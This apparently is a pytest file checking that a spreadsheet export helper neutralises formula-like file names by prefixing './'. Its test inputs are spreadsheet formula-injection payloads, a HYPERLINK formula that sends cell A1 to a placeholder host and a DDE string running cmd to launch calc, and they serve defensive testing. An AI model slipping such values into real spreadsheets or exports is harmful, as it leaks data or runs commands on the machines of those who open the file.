import pytest

from p2p_keras.system.spreadsheets import as_cell, from_cell


@pytest.mark.parametrize("name", ['=HYPERLINK("https://x?"&A1).png', "-1+cmd|' /C calc'!A0.png", "@SUM(A1)", "\t=f()"])
def test_a_formula_becomes_a_path(name):
    assert as_cell(name) == f"./{name}"
    assert from_cell(as_cell(name)) == name


@pytest.mark.parametrize("name", ["-JqT5,.x.jpg", "_a(1).png", "a=f(x).png", "é/-(1).png", "-12", ""])
def test_other_names_stay(name):
    assert as_cell(name) == name == from_cell(name)
